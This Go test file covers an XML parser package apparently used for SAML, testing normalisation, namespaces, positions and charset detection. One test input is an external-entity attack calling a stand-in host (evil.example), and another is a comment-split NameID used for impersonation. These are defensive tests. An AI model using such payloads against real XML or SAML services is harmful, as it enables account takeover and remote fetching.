package xmldoc_test

import (
	"encoding/binary"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf16"

	"github.com/samlwhy/samlwhy/decode/xmldoc"
)

func parse(t *testing.T, src string) *xmldoc.Document {
	t.Helper()
	d := xmldoc.Parse([]byte(src), xmldoc.Options{})
	if !d.WellFormed() {
		t.Fatalf("%q: %v", src, d.Errors())
	}
	return d
}

// TestValues has values as written and as normalised.
func TestValues(t *testing.T) {
	root := parse(t, "<a b='1\t2\r\n3\r4&#10;5&#13;6&lt;&#x20AC;'>x\r\ny\rz&#13;&amp;<![CDATA[\r\n&amp;]]><!--\r--><?p \r\nq ?></a>").Root()
	b := root.Attr("", "b")
	if want := "1 2 3 4\n5\r6<€"; b.Value != want {
		t.Errorf("attribute value %q, want %q", b.Value, want)
	}
	if want := "1\t2\r\n3\r4&#10;5&#13;6&lt;&#x20AC;"; b.Raw != want {
		t.Errorf("raw attribute value %q, want %q", b.Raw, want)
	}
	var values, sources []string
	for n := range root.Children() {
		values = append(values, n.Value())
		sources = append(sources, n.Source())
	}
	if want := []string{"x\ny\nz\r&", "\n&amp;", "\n", "q "}; !slices.Equal(values, want) {
		t.Errorf("values %q, want %q", values, want)
	}
	if want := []string{"x\r\ny\rz&#13;&amp;", "<![CDATA[\r\n&amp;]]>", "<!--\r-->", "<?p \r\nq ?>"}; !slices.Equal(sources, want) {
		t.Errorf("sources %q, want %q", sources, want)
	}
	if want := "x\ny\nz\r&\n&amp;"; root.Text() != want {
		t.Errorf("text %q, want %q", root.Text(), want)
	}
}

// TestTextReadsAcrossComments: a NameID cut short by a comment has let people
// log in as somebody else.
func TestTextReadsAcrossComments(t *testing.T) {
	root := parse(t, "<a>user@example.com<!-- -->.evil<?p?>.<b>com</b></a>").Root()
	if want := "user@example.com.evil.com"; root.Text() != want {
		t.Errorf("got %q, want %q", root.Text(), want)
	}
}

func TestNamespaces(t *testing.T) {
	root := parse(t, "<p:a xmlns:p='urn:1' xmlns='urn:d' x='' p:x=''><b xmlns=''><p:c xmlns:p='urn:2' xmlns:q='urn:1'/></b><p:b xml:lang='en'/><b/></p:a>").Root()
	var got []string
	for n := range root.Descendants() {
		got = append(got, n.Name().Space+"|"+n.Name().String())
		for _, a := range n.Attrs() {
			got = append(got, "@"+a.Name.Space+"|"+a.Name.String())
		}
	}
	want := []string{"urn:1|p:a", "@|x", "@urn:1|p:x", "|b", "urn:2|p:c", "urn:1|p:b", "@" + xmldoc.XMLNamespace + "|xml:lang", "urn:d|b"}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	c := root.FirstChild().FirstChild()
	twice := xmldoc.Parse([]byte("<p:a xmlns:p='urn:1' xmlns:p='urn:2' xmlns:q='urn:q'><b xmlns:q=''/></p:a>"), xmldoc.Options{}).Root()
	if uri, _ := twice.LookupNamespace("p"); uri != "urn:1" || twice.Name().Space != "urn:1" {
		t.Errorf("of two declarations the first counts, got %q and %q", uri, twice.Name().Space)
	}
	if uri, _ := twice.FirstChild().LookupNamespace("q"); uri != "urn:q" {
		t.Errorf("a declaration in error binds nothing, got %q", uri)
	}
	for _, test := range []struct {
		prefix, uri string
		ok          bool
	}{
		{"p", "urn:2", true}, {"q", "urn:1", true}, {"", "", false}, {"r", "", false},
		{"xml", xmldoc.XMLNamespace, true}, {"xmlns", xmldoc.XMLNSNamespace, true},
	} {
		if uri, ok := c.LookupNamespace(test.prefix); uri != test.uri || ok != test.ok {
			t.Errorf("LookupNamespace(%q) = %q, %t, want %q, %t", test.prefix, uri, ok, test.uri, test.ok)
		}
	}
	if uri, ok := root.LookupNamespace(""); uri != "urn:d" || !ok {
		t.Errorf("the default namespace of the root is %q, %t", uri, ok)
	}
	if decls := c.Namespaces(); len(decls) != 2 || decls[1].Prefix != "q" || decls[1].URI != "urn:1" {
		t.Errorf("declarations of c: %v", decls)
	}
}

func TestPaths(t *testing.T) {
	root := parse(t, "<p:R xmlns:p='urn:p'><A/><p:A><C>x<!-- --></C></p:A><B/></p:R>").Root()
	var got []string
	for n := range root.Descendants() {
		got = append(got, n.Path())
	}
	want := []string{"/R", "/R/A[1]", "/R/A[2]", "/R/A[2]/C", "/R/A[2]/C/text()", "/R/A[2]/C/comment()", "/R/B"}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestLinks(t *testing.T) {
	d := parse(t, "<!-- 1 --><a>x<b/><?p?></a><!-- 2 -->")
	var kinds []xmldoc.Kind
	for n := range d.Nodes() {
		kinds = append(kinds, n.Kind())
		if n.Parent() != nil {
			t.Errorf("%q has a parent", n.Source())
		}
	}
	if want := []xmldoc.Kind{xmldoc.CommentNode, xmldoc.ElementNode, xmldoc.CommentNode}; !slices.Equal(kinds, want) {
		t.Errorf("outside the root: %v, want %v", kinds, want)
	}
	a := d.Root()
	b := a.FirstChild().Next()
	if !b.Is("", "b") || b.Prev() != a.FirstChild() || b.Next() != a.LastChild() || b.Parent() != a || b.Document() != d || a.LastChild().Next() != nil {
		t.Errorf("links around <b/> are wrong")
	}
	elements := slices.Collect(a.Elements())
	if len(elements) != 1 || elements[0] != b {
		t.Errorf("elements: %v", elements)
	}
	if a.Prev().Value() != " 1 " || a.Next().Value() != " 2 " {
		t.Errorf("siblings of the root: %q, %q", a.Prev().Value(), a.Next().Value())
	}
}

// TestRootIsInTheTree has an epilog long enough for the nodes to be moved.
func TestRootIsInTheTree(t *testing.T) {
	d := parse(t, "<a><b/></a>"+strings.Repeat("<!---->", 5000))
	for n := range d.Nodes() {
		if n != d.Root() || n.FirstChild().Parent() != n {
			t.Error("the root is not the first node of the document")
		}
		break
	}
}

// TestDoctypeOfIllFormedDocument is about external entity attacks: the
// declaration can be seen although reading stops inside it.
func TestDoctypeOfIllFormedDocument(t *testing.T) {
	d := xmldoc.Parse([]byte("<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example'>%p;]><a/>"), xmldoc.Options{})
	if d.Doctype() == nil || d.Doctype().Name != "a" || d.Doctype().End() != d.Errors()[0].Position() {
		t.Errorf("got %+v", d.Doctype())
	}
}

func TestDeclarationAndDoctype(t *testing.T) {
	d := parse(t, "\uFEFF<?xml version='1.0' encoding='utf-8' standalone='no'?>\n<!DOCTYPE p:a PUBLIC '-//X' 'a.dtd' [<!-- ] -->]><p:a xmlns:p='urn:p'/>")
	if d.Version() != "1.0" || d.DeclaredEncoding() != "utf-8" || d.Encoding() != "UTF-8" || d.Standalone() != "no" || !d.HasBOM() {
		t.Errorf("got %q %q %q %q %t", d.Version(), d.DeclaredEncoding(), d.Encoding(), d.Standalone(), d.HasBOM())
	}
	doctype := d.Doctype()
	if doctype.Name != "p:a" || doctype.PublicID != "-//X" || doctype.SystemID != "a.dtd" || doctype.Internal != "<!-- ] -->" {
		t.Errorf("got %+v", doctype)
	}
	if p := doctype.Position(); p.Line != 2 || p.Column != 1 {
		t.Errorf("the doctype is at %+v", p)
	}
	if p := doctype.End(); p != d.Root().Position() {
		t.Errorf("the doctype ends at %+v", p)
	}
}

// encodings are the ways to write a document; the text must not use more
// than all of them know.
var encodings = []struct {
	name, label string
	encode      func(string) []byte
	width       func(rune) int
}{
	{"UTF-8", "utf-8", func(s string) []byte { return []byte(s) }, func(r rune) int { return len(string(r)) }},
	{"UTF-16LE", "UTF-16", func(s string) []byte { return encode16("\uFEFF"+s, binary.LittleEndian) }, width16},
	{"UTF-16BE", "UTF-16", func(s string) []byte { return encode16("\uFEFF"+s, binary.BigEndian) }, width16},
	{"UTF-16LE", "UTF-16LE", func(s string) []byte { return encode16(s, binary.LittleEndian) }, width16},
	{"UTF-16BE", "UTF-16BE", func(s string) []byte { return encode16(s, binary.BigEndian) }, width16},
	{"ISO-8859-1", "ISO-8859-1", encodeSingle, width8},
	{"ISO-8859-1", "latin1", encodeSingle, width8},
	{"windows-1252", "Windows-1252", encodeSingle, width8},
}

func encode16(s string, order binary.AppendByteOrder) (out []byte) {
	for _, u := range utf16.Encode([]rune(s)) {
		out = order.AppendUint16(out, u)
	}
	return out
}

func encodeSingle(s string) (out []byte) {
	for _, r := range s {
		out = append(out, byte(r))
	}
	return out
}

func width8(rune) int { return 1 }

func width16(r rune) int { return 2 * utf16.RuneLen(r) }

// TestPositions has the places of everything, in every encoding and with every
// kind of line end.
func TestPositions(t *testing.T) {
	for _, enc := range encodings {
		for _, newline := range []string{"\n", "\r\n", "\r"} {
			text := "<?xml version='1.0' encoding='" + enc.label + "'?>\n<é xmlns:p='urn:p'\n  p:ü = 'ä\nö'>Ä\n\n<b\n/>ß<!--\n--></é>\n"
			text = strings.ReplaceAll(text, "\n", newline)
			src := enc.encode(text)
			d := xmldoc.Parse(src, xmldoc.Options{})
			if !d.WellFormed() || d.Encoding() != enc.name || d.Text() != text {
				t.Errorf("%s %q: %v, read as %s", enc.label, newline, d.Errors(), d.Encoding())
				continue
			}
			bom := len(src) - widthOf(text, enc.width)
			check := func(what string, got xmldoc.Position, marker string) {
				t.Helper()
				before, _, ok := strings.Cut(text, marker)
				if !ok {
					t.Fatalf("no %q", marker)
				}
				want := placeAfter(before)
				want.Offset = bom + widthOf(before, enc.width)
				if got != want {
					t.Errorf("%s %q: %s at %+v, want %+v", enc.label, newline, what, got, want)
				}
			}
			root := d.Root()
			b := slices.Collect(root.Elements())[0]
			check("root", root.Position(), "<é")
			check("namespace", root.NamespacePosition(&root.Namespaces()[0]), "xmlns:p")
			check("namespace value", root.NamespaceValuePosition(&root.Namespaces()[0]), "urn:p")
			check("attribute", root.AttrPosition(&root.Attrs()[0]), "p:ü")
			check("attribute value", root.AttrValuePosition(&root.Attrs()[0]), "ä")
			check("text", root.FirstChild().Position(), "Ä")
			check("element", b.Position(), "<b")
			check("end of element", b.End(), "ß")
			check("comment", root.LastChild().Position(), "<!--")
			check("end of comment", root.LastChild().End(), "</é")
			if end := root.End(); end.Offset != len(src)-widthOf(newline, enc.width) {
				t.Errorf("%s %q: the root ends at %+v", enc.label, newline, end)
			}
		}
	}
}

func widthOf(s string, width func(rune) int) (n int) {
	for _, r := range s {
		n += width(r)
	}
	return n
}

// TestPositionEverywhere compares the table with counting from the start, for
// a text that is one long line in some places and many short ones in others.
func TestPositionEverywhere(t *testing.T) {
	text := "<a>" + strings.Repeat("é𝄞x", 700) + strings.Repeat("\r\n", 600) + strings.Repeat("\r", 600) + strings.Repeat("\n€", 600) + "</a>"
	d := parse(t, text)
	want := xmldoc.Position{Line: 1, Column: 1}
	for i, r := range text {
		if want.Offset = i; d.Position(i) != want {
			t.Fatalf("offset %d: %+v, want %+v", i, d.Position(i), want)
		}
		if r == '\n' || r == '\r' && text[i+1] != '\n' {
			want.Line, want.Column = want.Line+1, 1
		} else {
			want.Column++
		}
	}
	if p := d.Position(-1); p != (xmldoc.Position{Line: 1, Column: 1}) {
		t.Errorf("before the text: %+v", p)
	}
	if d.Position(len(text)+9) != d.Position(len(text)) {
		t.Error("offsets behind the text mean its end")
	}
}

func TestPositionIsSafeForConcurrentUse(t *testing.T) {
	d := parse(t, "<a>\n"+strings.Repeat("<b/>\n", 1000)+"</a>")
	var group sync.WaitGroup
	for range 8 {
		group.Go(func() {
			if p := d.Root().LastChild().Position(); p.Line != 1001 {
				t.Errorf("got %+v", p)
			}
		})
	}
	group.Wait()
}

// TestCharsets has what bytes and labels say about each other.
func TestCharsets(t *testing.T) {
	le := func(s string) string { return string(encode16(s, binary.LittleEndian)) }
	be := func(s string) string { return string(encode16(s, binary.BigEndian)) }
	for _, test := range []struct {
		name, src, external string
		encoding, code      string // code of the first error, empty: none
		offset              int    // of the error
		text                string // of the root, if it was read
	}{
		{"no declaration", "<a>é</a>", "", "UTF-8", "", 0, "é"},
		{"latin1 declared", "<?xml version='1.0' encoding='ISO-8859-1'?><a>\xE9\x85</a>", "", "ISO-8859-1", "", 0, "é\u0085"},
		{"windows-1252 declared", "<?xml version=\"1.0\" encoding=\"cp1252\"?><a>\x80\x93</a>", "", "windows-1252", "", 0, "€“"},
		{"undefined in windows-1252", "<?xml version='1.0' encoding='windows-1252'?><a>\x81</a>", "", "windows-1252", xmldoc.CodeInvalidByte, 48, ""},
		{"ASCII declared", "<?xml version='1.0' encoding='us-ascii'?><a>x</a>", "", "US-ASCII", "", 0, "x"},
		{"not ASCII", "<?xml version='1.0' encoding='us-ascii'?><a>é</a>", "", "US-ASCII", xmldoc.CodeInvalidByte, 44, ""},
		{"control in latin1", "<?xml version='1.0' encoding='latin1'?><a>\xE9\x01</a>", "", "ISO-8859-1", xmldoc.CodeIllegalCharacter, 43, "é"},
		{"UTF-16 with mark", le("\uFEFF<a>𝄞</a>"), "", "UTF-16LE", "", 0, "𝄞"},
		{"UTF-16 by pattern", be("<?xml version='1.0' encoding='UTF-16BE'?><a>€</a>"), "", "UTF-16BE", "", 0, "€"},
		{"UTF-16 of the other order", le("<?xml version='1.0' encoding='UTF-16BE'?><a>€</a>"), "", "UTF-16LE", xmldoc.CodeEncodingMismatch, 60, "€"},
		{"UTF-16 declared UTF-8", le("\uFEFF<?xml version='1.0' encoding='UTF-8'?><a>€</a>"), "", "UTF-16LE", xmldoc.CodeEncodingMismatch, 62, "€"},
		{"UTF-8 declared UTF-16", "<?xml version='1.0' encoding='UTF-16'?><a>€</a>", "", "UTF-8", xmldoc.CodeEncodingMismatch, 30, "€"},
		{"UTF-16 without any sign", le("<a>€</a>"), "", "UTF-16LE", xmldoc.CodeEncodingMismatch, 0, "€"},
		{"lone high surrogate", be("\uFEFF<a>") + "\xD8\x34" + be("</a>"), "", "UTF-16BE", xmldoc.CodeInvalidUTF16, 8, ""},
		{"lone low surrogate", le("\uFEFF<a>") + "\x1E\xDD" + le("</a>"), "", "UTF-16LE", xmldoc.CodeInvalidUTF16, 8, ""},
		{"U+FFFE in UTF-16", be("\uFEFF<a>") + "\xFF\xFE" + be("</a>"), "", "UTF-16BE", xmldoc.CodeIllegalCharacter, 8, ""},
		{"half a UTF-16 unit", le("\uFEFF<a>x") + "<", "", "UTF-16LE", xmldoc.CodeTruncated, 10, "x"},
		{"half a surrogate pair at the end", le("\uFEFF<a>x") + "\x34\xD8", "", "UTF-16LE", xmldoc.CodeTruncated, 10, "x"},
		{"odd byte after the root", le("\uFEFF<a>x</a>") + "\n", "", "UTF-16LE", xmldoc.CodeTruncated, 18, "x"},
		{"place after a surrogate pair", be("\uFEFF<a>𝄞& </a>"), "", "UTF-16BE", xmldoc.CodeBareAmpersand, 12, "𝄞"},
		{"UTF-32", "\x00\x00\xFE\xFF\x00\x00\x00<", "", "US-ASCII", xmldoc.CodeUnsupportedEncoding, 0, ""},
		{"EBCDIC", "\x4C\x6F\xA7\x94\x93", "", "US-ASCII", xmldoc.CodeUnsupportedEncoding, 0, ""},
		{"external beats declaration", "<?xml version='1.0' encoding='UTF-8'?><a>\xE9</a>", "iso-8859-1", "ISO-8859-1", "", 0, "é"},
		{"mark beats external", "\uFEFF<a>é</a>", "iso-8859-1", "UTF-8", "", 0, "é"},
		{"external unknown", "<a>é</a>", "x-unknown", "UTF-8", xmldoc.CodeUnsupportedEncoding, 0, "é"},
		{"external contradicts the bytes", le("<?xml version='1.0'?><a>é</a>"), "utf-8", "UTF-16LE", xmldoc.CodeEncodingMismatch, 0, "é"},
		{"late declaration still counts", "\n<?xml version='1.0' encoding='latin1'?><a>\xE9</a>", "", "ISO-8859-1", xmldoc.CodeLateDeclaration, 1, "é"},
	} {
		d := xmldoc.Parse([]byte(test.src), xmldoc.Options{Encoding: test.external})
		code, offset := "", 0
		if len(d.Errors()) > 0 {
			code, offset = d.Errors()[0].Code, d.Errors()[0].Position().Offset
		}
		text := ""
		if d.Root() != nil {
			text = d.Root().Text()
		}
		if d.Encoding() != test.encoding || code != test.code || offset != test.offset || text != test.text {
			t.Errorf("%s: read as %s, error %q at %d, text %q (%v)", test.name, d.Encoding(), code, offset, text, d.Errors())
		}
	}
}

func TestTextRanges(t *testing.T) {
	const text = `<?xml version="1.0" encoding="UTF-16"?><é a = 'x&amp;ü' b="2"><c></c ><d/><e> </e></é>`
	var utf16LE []byte
	utf16LE = append(utf16LE, 0xff, 0xfe)
	for _, u := range utf16.Encode([]rune(text)) {
		utf16LE = append(utf16LE, byte(u), byte(u>>8))
	}
	doc := xmldoc.Parse(utf16LE, xmldoc.Options{})
	if !doc.WellFormed() {
		t.Fatal(doc.Errors())
	}
	root := doc.Root()
	slice := func(start, end int) string { return doc.Text()[start:end] }
	attr := root.Attr("", "a")
	if got, want := slice(root.AttrRange(attr)), `a = 'x&amp;ü'`; got != want {
		t.Errorf("AttrRange = %q, want %q", got, want)
	}
	if got, want := slice(root.AttrValueRange(attr)), `x&amp;ü`; got != want {
		t.Errorf("AttrValueRange = %q, want %q", got, want)
	}
	want := map[string]string{"é": "<c></c ><d/><e> </e>", "c": "", "d": "-", "e": " "}
	for n := range root.Descendants() {
		if n.Kind() != xmldoc.ElementNode {
			continue
		}
		got := "-"
		if start, end, ok := n.ContentRange(); ok {
			got = slice(start, end)
		}
		if got != want[n.QName()] {
			t.Errorf("content of %s = %q, want %q", n.QName(), got, want[n.QName()])
		}
	}
}
